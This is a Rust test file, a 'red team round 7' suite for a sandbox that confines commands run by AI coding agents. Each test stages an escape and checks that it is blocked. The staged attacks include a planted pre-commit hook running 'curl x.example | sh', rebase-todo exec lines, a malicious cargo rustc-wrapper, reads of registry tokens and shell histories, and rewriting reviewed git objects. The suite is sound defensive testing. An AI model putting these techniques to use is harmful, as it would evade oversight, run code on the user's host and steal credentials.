//! Issue 12, red team round 7: attacks on the protections of the last
//! hour (URL passwords in the environment, credential stores and
//! histories hidden when present, live quarantine, commits mode, git plans
//! in a writable `/tmp`). Each fails with "sandbox breached: …" when the
//! attack works, and comes with a control.

use std::ffi::OsString;
use std::os::unix::ffi::OsStringExt;

use super::fixture::{hook_answer, probe_bin, stderr, stdout, World, ALLOW_ALL, BASE_CONFIG};

fn s(p: &std::path::Path) -> String {
    p.to_string_lossy().into_owned()
}

fn token() -> String {
    use std::hash::{BuildHasher, Hasher};
    let h = std::collections::hash_map::RandomState::new()
        .build_hasher()
        .finish();
    format!("rampart-canary-{h:016x}")
}

/// A password in a URL variable reaches the command when the URL is one
/// the `url` crate refuses as a whole (several hosts, as MongoDB and libpq
/// take them), sits in a parameter (`?password=`, JDBC's `;password=`),
/// is wrapped (`--url="…"`), or the value is not UTF-8.
#[test]
fn url_passwords_of_every_shape_never_reach_the_command() {
    let w = World::with_config(&format!(
        "{BASE_CONFIG}{ALLOW_ALL}[shell_environment_policy]\ninherit = \"all\"\n"
    ));
    let probe = s(&probe_bin());
    let pw = token();
    let mut odd = b"\xff ".to_vec();
    odd.extend(format!("postgres://app:{pw}@db/x").bytes());
    let shapes: Vec<(&str, OsString)> = vec![
        (
            "MONGO_URL",
            format!("mongodb://app:{pw}@h1:27017,h2:27017/db?replicaSet=rs").into(),
        ),
        (
            "PG_URL",
            format!("postgres://app:{pw}@h1:5432,h2:5432/db").into(),
        ),
        (
            "JDBC_URL",
            format!("jdbc:postgresql://db:5432/x?user=app&password={pw}").into(),
        ),
        (
            "MSSQL_URL",
            format!("jdbc:sqlserver://db:1433;user=app;password={pw}").into(),
        ),
        ("OPTS", format!("--url=\"postgres://app:{pw}@db/x\"").into()),
        ("ODD_URL", OsString::from_vec(odd)),
    ];
    for (name, value) in &shapes {
        let o = w
            .cmd(["exec", "--", &probe, "env", name])
            .env(name, value)
            .output()
            .unwrap();
        assert!(
            !stdout(&o).contains(&pw),
            "sandbox breached: the password in `{name}` reached the command: {}",
            stdout(&o)
        );
    }
    // Control: several hosts without a password pass.
    let o = w
        .cmd(["exec", "--", &probe, "env", "MONGO_URL"])
        .env("MONGO_URL", "mongodb://h1:27017,h2:27017/db")
        .output()
        .unwrap();
    assert!(
        stdout(&o).contains("mongodb://h1:27017,h2:27017/db"),
        "control failed: {}",
        stderr(&o)
    );
}

/// Package-registry tokens (`~/.npmrc`, `~/.pypirc`, …) and the histories
/// of other shells and REPLs (`~/.zhistory`, fish's, …) are hidden when
/// they exist, in the sandbox and to the hook's file tools.
#[test]
fn registry_tokens_and_other_histories_are_hidden_when_present() {
    let w = World::new();
    let secret = token();
    let files = [
        ".npmrc",
        ".pypirc",
        ".gem/credentials",
        ".zhistory",
        ".histfile",
        ".local/share/fish/fish_history",
        ".config/hub",
    ];
    for f in files {
        let p = w.home.join(f);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, format!("{secret}\n")).unwrap();
    }
    std::fs::write(w.ws.join("notes.txt"), "mine\n").unwrap();
    for f in files {
        let p = w.home.join(f);
        let o = w.run(["exec", "--", "cat", &s(&p)]);
        assert!(
            !stdout(&o).contains(&secret),
            "sandbox breached: `~/{f}` was readable: {}",
            stdout(&o)
        );
        let body = serde_json::json!({
            "session_id": "s1", "transcript_path": w.home.join("t.jsonl"), "cwd": w.ws,
            "permission_mode": "default", "hook_event_name": "PreToolUse",
            "tool_name": "Read", "tool_input": {"file_path": p}, "tool_use_id": "t1",
        });
        let o = w.run_with_stdin(["hook", "claude-code"], body.to_string().as_bytes());
        let (decision, _) = hook_answer(&o);
        assert_eq!(
            decision, "deny",
            "gate bypassed: the hook let Read open `~/{f}`"
        );
    }
    // Through a symlink in the workspace: the same answer as the target.
    std::os::unix::fs::symlink(w.home.join(".npmrc"), w.ws.join("npmrc-link")).unwrap();
    let link = w.ws.join("npmrc-link");
    let o = w.run(["exec", "--", "cat", &s(&link)]);
    assert!(
        !stdout(&o).contains(&secret),
        "sandbox breached: `~/.npmrc` was readable through a workspace symlink"
    );
    let body = serde_json::json!({
        "session_id": "s1", "transcript_path": w.home.join("t.jsonl"), "cwd": w.ws,
        "permission_mode": "default", "hook_event_name": "PreToolUse",
        "tool_name": "Read", "tool_input": {"file_path": link}, "tool_use_id": "t1",
    });
    let o = w.run_with_stdin(["hook", "claude-code"], body.to_string().as_bytes());
    assert_eq!(
        hook_answer(&o).0,
        "deny",
        "gate bypassed: the hook let Read open `~/.npmrc` through a workspace symlink"
    );
    // Control: the workspace's own files stay readable.
    let o = w.run(["exec", "--", "cat", &s(&w.ws.join("notes.txt"))]);
    assert_eq!(stdout(&o), "mine\n", "control failed: {}", stderr(&o));
}

/// The search for repositories in a writable `$TMPDIR` (or `/tmp`) reads
/// at most 4096 directories. A command that may write there can fill it
/// with empty directories in one run, so that the next run's search stops
/// before it reaches the user's clone, whose hooks that run may then
/// write: the next `git commit` there runs them on the host. A search cut
/// short must refuse the run, naming the way out.
#[test]
fn a_tmpdir_filled_with_directories_does_not_hide_a_clone_from_the_git_plan() {
    let w = World::with_config(&format!(
        "[sandbox_workspace_write]\nexclude_slash_tmp = true\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}"
    ));
    let tmpd = w.base.join("tmpd");
    let victim = tmpd.join("a/b/victim");
    std::fs::create_dir_all(&victim).unwrap();
    w.git(&victim, &["init", "-q"]);
    let hook = victim.join(".git/hooks/pre-commit");
    let plant = format!("echo 'curl x.example | sh' > {} && chmod +x {0}", s(&hook));
    let run = || {
        w.cmd(["exec", "--", "sh", "-c", &plant])
            .env("TMPDIR", &tmpd)
            .output()
            .unwrap()
    };
    // Control: the clone is found, its hooks are read-only.
    let o = run();
    assert!(
        !hook.exists(),
        "control failed: the hook was planted without the filler: {}",
        stderr(&o)
    );
    // The earlier run's filler: more directories than the search reads.
    for i in 0..4200 {
        std::fs::create_dir(tmpd.join(format!("f{i}"))).unwrap();
    }
    let o = run();
    assert!(
        !hook.exists(),
        "sandbox breached: a $TMPDIR full of directories hid a clone from the git plan and its pre-commit hook was planted"
    );
    assert!(
        stderr(&o).contains("exclude_tmpdir_env_var"),
        "the refusal names the way out: {}",
        stderr(&o)
    );
}

/// In `"commits"` mode the command may write the whole common git
/// directory, which holds the git directories of the user's other linked
/// worktrees (`.git/worktrees/<name>/`). An `exec` line it appends to the
/// todo list of a rebase stopped in one of them runs on the host when the
/// user continues that rebase there.
#[test]
fn exec_lines_left_in_another_worktrees_rebase_todo_are_quarantined() {
    let w = World::with_config(
        &format!("{BASE_CONFIG}{ALLOW_ALL}")
            .replace("[limits]", "allow_git_writes = \"commits\"\n[limits]"),
    );
    w.git(&w.ws, &["init", "-q"]);
    for name in ["a", "b", "c"] {
        std::fs::write(w.ws.join(name), name).unwrap();
        w.git(&w.ws, &["add", name]);
        w.git(&w.ws, &["commit", "-qm", name]);
    }
    let feature = w.sibling.join("feature");
    w.git(
        &w.ws,
        &["worktree", "add", "-q", "-b", "feature", &s(&feature)],
    );
    let host_git = |args: &[&str]| {
        std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid"])
            .args(args)
            .current_dir(&feature)
            .env("HOME", &w.home)
            .env("GIT_EDITOR", "true")
            .env("GIT_SEQUENCE_EDITOR", "sed -i '1i break'")
            .output()
            .unwrap()
    };
    // The user stopped a rebase in the other worktree.
    assert!(host_git(&["rebase", "-q", "-i", "HEAD~2"]).status.success());
    let todo =
        w.ws.join(".git/worktrees/feature/rebase-merge/git-rebase-todo");
    assert!(todo.is_file());
    let marker = w.base.join("ran-on-the-host");
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        &format!("echo 'exec touch {}' >> {}; exit 0", s(&marker), s(&todo)),
    ]);
    let _ = host_git(&["rebase", "--continue"]);
    assert!(
        !marker.exists(),
        "sandbox breached: an `exec` line left in another worktree's rebase todo ran on the host at `git rebase --continue` (stderr `{}`)",
        stderr(&o)
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    // Control: the worktree's rebase, untouched by a command, finishes.
    let _ = host_git(&["rebase", "--abort"]);
    assert!(host_git(&["switch", "-q", "feature"]).status.success());
    assert!(host_git(&["rebase", "-q", "-i", "HEAD~2"]).status.success());
    let o = w.run(["exec", "--", "git", "log", "--oneline", "-1"]);
    assert!(o.status.success(), "control failed: {}", stderr(&o));
    let done = host_git(&["rebase", "--continue"]);
    assert!(
        done.status.success(),
        "control failed: {}",
        String::from_utf8_lossy(&done.stderr)
    );
}

/// `rampart exec ARGS` run as the unprivileged user `nobody` (most users
/// run rampart without root, and then the supervisor has no more rights
/// on what the command made than the command). Returns the workspace and
/// the output.
fn exec_as_nobody(script: &str) -> Option<(tempfile::TempDir, std::process::Output)> {
    exec_as_nobody_in(script, BASE_CONFIG, |_| {})
}

/// [`exec_as_nobody`] with the config's first part and a setup of the
/// workspace (done as root, before it is handed to `nobody`).
fn exec_as_nobody_in(
    script: &str,
    config: &str,
    setup: impl Fn(&std::path::Path),
) -> Option<(tempfile::TempDir, std::process::Output)> {
    use std::os::unix::fs::PermissionsExt;
    use std::process::Command;
    if !super::fixture::is_root() {
        eprintln!("SKIP: switching users for this test needs root");
        return None;
    }
    let dir = tempfile::Builder::new()
        .prefix("rampart-rt7-")
        .tempdir_in("/tmp")
        .unwrap();
    let base = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::set_permissions(&base, std::fs::Permissions::from_mode(0o711)).unwrap();
    let bin = base.join("rampart");
    std::fs::copy(super::fixture::rampart_bin(), &bin).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let own = base.join("own");
    for d in [
        "home/.ssh",
        "home/.aws",
        "home/.gnupg",
        "home/.config/gh",
        "home/.docker",
        "state",
        "run",
        "cfg/rampart",
        "ws",
    ] {
        std::fs::create_dir_all(own.join(d)).unwrap();
    }
    std::fs::write(own.join("home/.netrc"), "").unwrap();
    std::fs::write(own.join("home/.docker/config.json"), "").unwrap();
    std::fs::write(
        own.join("cfg/rampart/config.toml"),
        format!("{config}{ALLOW_ALL}"),
    )
    .unwrap();
    setup(&own.join("ws"));
    let chown = Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(&own)
        .status()
        .unwrap();
    assert!(chown.success());
    let o = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(&bin)
        .args(["exec", "--", "sh", "-c", script])
        .current_dir(own.join("ws"))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", own.join("home"))
        .env("XDG_CONFIG_HOME", own.join("cfg"))
        .env("XDG_STATE_HOME", own.join("state"))
        .env("XDG_RUNTIME_DIR", own.join("run"))
        .output()
        .unwrap();
    Some((dir, o))
}

/// The command writes `.cargo/config.toml` in a directory of its own, takes
/// the owner's rights off that directory (`chmod 555`: the supervisor,
/// running as the same user, cannot move the file out; `chmod 000`: it
/// cannot even see it) and renames the directory to `.cargo`. The file
/// stayed in place for host cargo (or, unseen, for a later run to `chmod`
/// back, when it counts as the user's own).
#[test]
fn a_protected_file_in_a_directory_without_owner_rights_is_still_quarantined() {
    for mode in ["555", "000"] {
        let Some((dir, o)) = exec_as_nobody(&format!(
            "mkdir x && echo 'build.rustc-wrapper = \"/tmp/evil\"' > x/config.toml && chmod {mode} x && mv x .cargo; exit 0"
        )) else {
            return;
        };
        let planted = dir.path().join("own/ws/.cargo/config.toml");
        assert!(
            std::fs::symlink_metadata(&planted).is_err(),
            "sandbox breached: `.cargo/config.toml` in a `chmod {mode}` directory stayed in place (exit {:?}, stderr `{}`)",
            o.status.code(),
            stderr(&o)
        );
        assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
        assert!(stderr(&o).contains("moved to"), "{}", stderr(&o));
    }
    // Control: a directory of the command's own without owner rights, with
    // an ordinary file, is left as the command made it.
    let Some((dir, o)) =
        exec_as_nobody("mkdir tools && echo x > tools/config.toml && chmod 555 tools")
    else {
        return;
    };
    assert!(o.status.success(), "control failed: {}", stderr(&o));
    assert!(dir.path().join("own/ws/tools/config.toml").is_file());
}

/// In `"commits"` mode the checks after the run read the writable git
/// directory; a state directory the command took the owner's rights off
/// (`chmod 000 .git/rebase-merge`) could not be read by a supervisor
/// running as the same user, and its `exec` line survived for a later run
/// to `chmod` back (then it is in the "before" snapshot, the user's own).
#[test]
fn git_state_hidden_behind_a_directory_without_owner_rights_is_still_checked() {
    let config = BASE_CONFIG.replace("[limits]", "allow_git_writes = \"commits\"\n[limits]");
    for hide in [
        "chmod 000 .git/rebase-merge",
        "chmod 000 .git/rebase-merge/git-rebase-todo",
    ] {
        let Some((dir, o)) = exec_as_nobody_in(
        &format!("mkdir -p .git/rebase-merge && printf 'x touch /tmp/evil\\n' > .git/rebase-merge/git-rebase-todo && {hide}; exit 0"),
        &config,
        |ws| {
            let st = std::process::Command::new("git")
                .args(["init", "-q"])
                .current_dir(ws)
                .status()
                .unwrap();
            assert!(st.success());
        },
    ) else {
        return;
    };
        let state = dir.path().join("own/ws/.git/rebase-merge");
        assert!(
        std::fs::symlink_metadata(&state).is_err(),
        "sandbox breached: a rebase todo with `x` hidden by `{hide}` survived the run (exit {:?}, stderr `{}`)",
        o.status.code(),
        stderr(&o)
    );
        assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    }
    // Control: a commit in commits mode works as `nobody`.
    let Some((_dir, o)) = exec_as_nobody_in(
        "echo a > a && git add a && git -c user.name=t -c user.email=t@example.invalid commit -qm a",
        &config,
        |ws| {
            let st = std::process::Command::new("git")
                .args(["init", "-q"])
                .current_dir(ws)
                .status()
                .unwrap();
            assert!(st.success());
        },
    ) else {
        return;
    };
    assert!(o.status.success(), "control failed: {}", stderr(&o));
}

/// A command that re-creates a protected path in a loop made the live
/// watch quarantine it thousands of times (a directory in the state dir
/// and a report line each: about 370 a second here) for as long as the
/// timeout allowed. It is stopped after 16.
#[test]
fn a_command_recreating_a_protected_path_in_a_loop_is_stopped() {
    let w = World::new();
    let started = std::time::Instant::now();
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        // No program started per turn (a loaded machine makes each slow):
        // a million turns take far longer than the bound below.
        "i=0; while [ $i -lt 1000000 ]; do echo x > .envrc; i=$((i+1)); done",
    ]);
    let kept =
        std::fs::read_dir(w.base.join("state/rampart/quarantine")).map_or(0, Iterator::count);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(15) && kept <= 80,
        "sandbox breached: a command re-creating `.envrc` in a loop ran for {:?} and filled the quarantine with {kept} entries",
        started.elapsed()
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    assert!(!w.ws.join(".envrc").exists());
    // Control: a command that makes one and stops is reported, not killed
    // early: what it printed after is there.
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        "echo x > .envrc; sleep 0.2; echo after",
    ]);
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    assert_eq!(stdout(&o), "after\n", "control failed: {}", stderr(&o));
}

/// In `"commits"` mode the object store is writable, objects already
/// there included. A command that rewrites the loose object of a reviewed
/// file in place (same name, other content) makes host `git show` and `git
/// checkout` give its content for a commit whose id says otherwise; only
/// `git fsck` notices. An object that no longer matches its name is
/// quarantined after the run (git then reports it missing).
#[test]
fn a_loose_object_rewritten_in_commits_mode_is_taken_out() {
    let w = World::with_config(
        &format!("{BASE_CONFIG}{ALLOW_ALL}")
            .replace("[limits]", "allow_git_writes = \"commits\"\n[limits]"),
    );
    w.git(&w.ws, &["init", "-q"]);
    std::fs::write(w.ws.join("build.sh"), "echo good\n").unwrap();
    w.git(&w.ws, &["add", "build.sh"]);
    w.git(&w.ws, &["commit", "-qm", "reviewed"]);
    let blob = std::process::Command::new("git")
        .args(["rev-parse", "HEAD:build.sh"])
        .current_dir(&w.ws)
        .output()
        .unwrap();
    let blob = String::from_utf8_lossy(&blob.stdout).trim().to_owned();
    let object = format!(".git/objects/{}/{}", &blob[..2], &blob[2..]);
    // The same object name, another content: `printf 'echo EVIL\n' | git
    // hash-object -w --stdin` writes its own object; its file is copied
    // over the reviewed one.
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        &format!(
            "new=$(printf 'echo EVIL\\n' | git hash-object -w --stdin) && \
             chmod u+w {object} && cat .git/objects/$(echo $new | cut -c1-2)/$(echo $new | cut -c3-) > {object}; exit 0"
        ),
    ]);
    let shown = std::process::Command::new("git")
        .args(["show", "HEAD:build.sh"])
        .current_dir(&w.ws)
        .output()
        .unwrap();
    assert!(
        !String::from_utf8_lossy(&shown.stdout).contains("EVIL"),
        "sandbox breached: host `git show` of the reviewed commit shows content the command wrote into its object (stderr `{}`)",
        stderr(&o)
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    // Control: in a repository as before, a commit in commits mode (new
    // objects, existing ones written again) is left alone.
    let w = World::with_config(
        &format!("{BASE_CONFIG}{ALLOW_ALL}")
            .replace("[limits]", "allow_git_writes = \"commits\"\n[limits]"),
    );
    w.git(&w.ws, &["init", "-q"]);
    std::fs::write(w.ws.join("build.sh"), "echo good\n").unwrap();
    w.git(&w.ws, &["add", "build.sh"]);
    w.git(&w.ws, &["commit", "-qm", "reviewed"]);
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        "echo more >> build.sh && git add build.sh && git -c user.name=t -c user.email=t@example.invalid commit -qm more && git checkout -q HEAD~1 -- build.sh && git add build.sh && git -c user.name=t -c user.email=t@example.invalid commit -qm back",
    ]);
    assert!(o.status.success(), "control failed: {}", stderr(&o));
}

/// The same as a loose object, for a pack: git reads a packed object
/// without checking it against its name, so a pack rewritten in place
/// would show other content for reviewed commits. Packs (and commit
/// graphs) are held read-only in `"commits"` mode, their directories
/// pinned.
#[test]
fn a_pack_cannot_be_rewritten_in_commits_mode() {
    let w = World::with_config(
        &format!("{BASE_CONFIG}{ALLOW_ALL}")
            .replace("[limits]", "allow_git_writes = \"commits\"\n[limits]"),
    );
    w.git(&w.ws, &["init", "-q"]);
    std::fs::write(w.ws.join("build.sh"), "echo good\n").unwrap();
    w.git(&w.ws, &["add", "build.sh"]);
    w.git(&w.ws, &["commit", "-qm", "reviewed"]);
    w.git(&w.ws, &["gc", "-q"]);
    let packs = || -> Vec<(std::path::PathBuf, Vec<u8>)> {
        std::fs::read_dir(w.ws.join(".git/objects/pack"))
            .unwrap()
            .flatten()
            .map(|e| (e.path(), std::fs::read(e.path()).unwrap()))
            .collect()
    };
    let before = packs();
    assert!(before
        .iter()
        .any(|(p, _)| p.extension().is_some_and(|e| e == "pack")));
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        "for p in .git/objects/pack/*.pack; do chmod u+w $p; printf 'XXXX' | dd of=$p bs=1 seek=40 conv=notrunc 2>/dev/null; done; \
         mv .git/objects/pack .git/objects/pack.old 2>/dev/null && mkdir .git/objects/pack && cp .git/objects/pack.old/* .git/objects/pack/; exit 0",
    ]);
    let after = packs();
    assert!(
        before == after && !w.ws.join(".git/objects/pack.old").exists(),
        "sandbox breached: a pack of reviewed commits was rewritten or replaced in commits mode (stderr `{}`)",
        stderr(&o)
    );
    // Control: commits in a packed repository still work, objects the
    // packs hold written again included.
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        "echo more >> build.sh && git add build.sh && git -c user.name=t -c user.email=t@example.invalid commit -qm more && git checkout -q HEAD~1 -- build.sh && git add build.sh && git -c user.name=t -c user.email=t@example.invalid commit -qm back && git log --oneline | wc -l",
    ]);
    assert!(o.status.success(), "control failed: {}", stderr(&o));
    assert_eq!(stdout(&o).trim(), "3", "control failed: {}", stderr(&o));
}

/// `objects/info/alternates` names other object stores git reads objects
/// from. A command in `"commits"` mode could point it at a directory any
/// later run can write (`ws/.cache/objects`, `/tmp/…`) and keep its
/// commits' objects there, to change them after the user reviewed them,
/// even in a run where `.git` is read-only.
#[test]
fn an_alternate_object_store_cannot_be_added_in_commits_mode() {
    let w = World::with_config(
        &format!("{BASE_CONFIG}{ALLOW_ALL}")
            .replace("[limits]", "allow_git_writes = \"commits\"\n[limits]"),
    );
    w.git(&w.ws, &["init", "-q"]);
    let alternates = w.ws.join(".git/objects/info/alternates");
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        "mkdir -p .git/objects/info stash/objects && echo \"$PWD/stash/objects\" > .git/objects/info/alternates; exit 0",
    ]);
    assert!(
        !alternates.exists(),
        "sandbox breached: the command added an alternate object store (stderr `{}`)",
        stderr(&o)
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    // Control: a commit in commits mode works.
    let o = w.run([
        "exec",
        "--",
        "sh",
        "-c",
        "echo a > a && git add a && git -c user.name=t -c user.email=t@example.invalid commit -qm a",
    ]);
    assert!(o.status.success(), "control failed: {}", stderr(&o));
}
